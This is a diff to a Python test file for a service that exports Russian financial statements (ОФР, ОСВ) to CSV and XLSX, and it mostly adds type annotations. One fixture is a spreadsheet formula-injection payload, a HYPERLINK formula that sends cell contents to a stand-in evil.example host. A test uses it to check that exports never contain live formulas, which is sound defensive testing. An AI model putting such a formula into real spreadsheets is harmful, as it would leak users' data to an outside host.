@@ -8,7 +8,7 @@ import datetime as dt
 import io
 import zipfile
 from decimal import Decimal
-from typing import Any
+from typing import Any, cast
 
 import openpyxl
 
@@ -29,11 +29,15 @@ from services.arm_core.documents.export import (
     statement_csv,
     statement_xlsx,
 )
+from services.arm_core.documents.read import DocumentBody
 from services.arm_statements import HEADER_FIELDS
 from services.contract.models.result_v2 import StatementDocument
+from services.contract.models.result_v2_dicts import OsvDocument as OsvBody
+from services.contract.models.result_v2_dicts import OsvRow as OsvRowBody
+from services.contract.models.result_v2_dicts import StatementDocument as StatementBody
 from services.contract.osv_row import OSV_ROW_FIELDS
 
-_ROW = {
+_ROW: OsvRowBody = {
     "row_index": 0,
     "ref": "ОСВ!A5",
     "level": 1,
@@ -96,7 +100,7 @@ _AT = dt.datetime(2026, 12, 3, 7, 15, tzinfo=dt.UTC)
 _INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"Выручка")'
 
 
-def _statement() -> dict[str, Any]:
+def _statement() -> StatementBody:
     """An ОФР: 2110 named by an injected formula, 2120 doubtful (printed «(118 45O)»), 2100
     with a code read as «+2100» that an analyst corrects."""
 
@@ -136,74 +140,80 @@ def _statement() -> dict[str, Any]:
         found = printed.get(name)
         header |= {name: found, f"{name}_text": found, f"{name}_confidence": 90 if found else None}
 
-    return {
-        "document_type": "INCOME",
-        "form_variant": "full",
-        "status": "needs_check",
-        "warnings": [
-            {
-                "code": "VALUE_UNREADABLE",
-                "severity": "warning",
-                "message": "-сумма не прочитана",
-                "line_refs": ["'ОФР'!A4"],
-            },
-        ],
-        "locator": [{"sheet": "ОФР", "range": "A1:E5"}],
-        "header": header | {"needs_review_fields": ["inn"]},
-        "columns": [
-            {
-                "column_index": index,
-                "label": label,
-                "label_confidence": 100,
-                "period_date": date,
-                "period_kind": "absolute",
-            }
-            for index, label, date in (
-                (3, "За 2024 г.", "2024-12-31"),
-                (4, "За 2023 г.", "2023-12-31"),
-            )
-        ],
-        "lines": [
-            line(
-                2,
-                "2110",
-                _INJECTED,
-                needs_review=False,
-                values=[value(3, "152340"), value(4, "1000.10")],
-            ),
-            line(
-                3,
-                "2120",
-                "Себестоимость продаж",
-                needs_review=True,
-                values=[value(3, None, text="(118 45O)", needs_review=True), value(4, "-98000")],
-            ),
-            line(
-                4,
-                None,
-                "\tВаловая прибыль",
-                line_status="unreadable",
-                line_code_text="+21OO",
-                needs_review=True,
-                values=[value(3, "33890"), value(4, "40900")],
-            ),
-        ],
-        "checks": {
-            "relations_failed": [
+    return cast(
+        StatementBody,
+        {
+            "document_type": "INCOME",
+            "form_variant": "full",
+            "status": "needs_check",
+            "warnings": [
                 {
-                    "column_index": 3,
-                    "relation": "2100 = 2110 + 2120",
-                    "codes": ["2100"],
-                    "expected": "152340",
-                    "actual": "33890",
+                    "code": "VALUE_UNREADABLE",
+                    "severity": "warning",
+                    "message": "-сумма не прочитана",
+                    "line_refs": ["'ОФР'!A4"],
                 },
             ],
-            "soft_relations_failed": [],
+            "locator": [{"sheet": "ОФР", "range": "A1:E5"}],
+            "header": header | {"needs_review_fields": ["inn"]},
+            "columns": [
+                {
+                    "column_index": index,
+                    "label": label,
+                    "label_confidence": 100,
+                    "period_date": date,
+                    "period_kind": "absolute",
+                }
+                for index, label, date in (
+                    (3, "За 2024 г.", "2024-12-31"),
+                    (4, "За 2023 г.", "2023-12-31"),
+                )
+            ],
+            "lines": [
+                line(
+                    2,
+                    "2110",
+                    _INJECTED,
+                    needs_review=False,
+                    values=[value(3, "152340"), value(4, "1000.10")],
+                ),
+                line(
+                    3,
+                    "2120",
+                    "Себестоимость продаж",
+                    needs_review=True,
+                    values=[
+                        value(3, None, text="(118 45O)", needs_review=True),
+                        value(4, "-98000"),
+                    ],
+                ),
+                line(
+                    4,
+                    None,
+                    "\tВаловая прибыль",
+                    line_status="unreadable",
+                    line_code_text="+21OO",
+                    needs_review=True,
+                    values=[value(3, "33890"), value(4, "40900")],
+                ),
+            ],
+            "checks": {
+                "relations_failed": [
+                    {
+                        "column_index": 3,
+                        "relation": "2100 = 2110 + 2120",
+                        "codes": ["2100"],
+                        "expected": "152340",
+                        "actual": "33890",
+                    },
+                ],
+                "soft_relations_failed": [],
+            },
         },
-    }
+    )
 
 
-def _corrected(*corrections: Correction) -> CorrectedDocument:
+def _corrected(*corrections: Correction) -> CorrectedDocument[DocumentBody]:
     return apply_corrections(_statement(), list(corrections))
 
 
@@ -256,7 +266,7 @@ def test_no_text_cell_of_an_xlsx_export_is_a_formula_whatever_it_begins_with() -
         "is_from_year_start": None,
         "units": None,
     }
-    document = {"header": header, "status": "done", "checks": {"failed": []}}
+    document = cast(OsvBody, {"header": header, "status": "done", "checks": {"failed": []}})
     osv = osv_xlsx([{**_ROW, "name": _INJECTED, "account": "+01"}], document)
     assert not any("<f>" in xml for xml in _sheet_xml(osv).values())
     osv_sheet = openpyxl.load_workbook(io.BytesIO(osv)).worksheets[0]
